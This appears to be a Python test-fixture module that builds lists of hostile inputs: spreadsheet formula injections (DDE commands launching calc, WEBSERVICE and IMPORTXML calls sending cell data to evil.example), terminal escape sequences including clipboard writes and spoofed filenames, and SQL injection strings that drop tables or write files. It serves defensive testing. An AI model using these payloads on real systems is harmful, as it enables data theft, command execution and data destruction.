"""Nothing goes in, texts come out that a spreadsheet, a page, a terminal or a database would obey if it were let."""

from hostile_names import HOSTILE

_LEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    " =",
    "\u00a0=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\u2212",
    "\n=",
    "'=",
    '"=',
    ";=",
    ",=",
    "\u200b=",
    "%0A=",
)
_CALLS = (
    'HYPERLINK("https://evil.example","x")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.example/"&A1)',
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "1+1",
    'IMAGE("https://evil.example/x.png")',
    "MSEXCEL|'\\..\\..\\calc.exe'!''",
    "@SUM(A1)",
)
FORMULAS = tuple(f"{lead}{call}" for lead in _LEADS for call in _CALLS)

_STARTS = ("\x1b", "\x9b", "\x1b[", "\x1b]", "\x1bP", "\x90", "\x9d", "\x1b_", "\x1b^", "\x07")
_ORDERS = (
    "2J",
    "0;owned\x07",
    "8;;https://evil.example\x07click",
    "52;c;b3duZWQ=\x07",
    "1337;File=:\x07",
    "31m",
    "\x08\x08\x08",
    "\r\x00",
    "\u202egpj.exe",
    "\u2066\x7f",
)
ESCAPES = tuple(f"a{start}{order}z" for start in _STARTS for order in _ORDERS)

_QUOTES = ('"', "'", "`", "]", "\\", "--", "/*", ";", "\x00", '""')
_STATEMENTS = (
    "DROP TABLE people",
    "ATTACH DATABASE 'evil.db' AS e",
    "SELECT load_extension('evil')",
    "PRAGMA writable_schema=ON",
    "INSERT INTO people VALUES(1)",
    "UPDATE people SET mail=''",
    "VACUUM INTO 'evil.db'",
    "DELETE FROM people",
    "CREATE TRIGGER t AFTER INSERT ON people BEGIN SELECT 1; END",
    "SELECT writefile('evil', 'x')",
)
SQL_NAMES = tuple(f"a{quote}); {statement}; {quote}" for quote in _QUOTES for statement in _STATEMENTS)

ALL = (*FORMULAS, *HOSTILE, *ESCAPES, *SQL_NAMES)
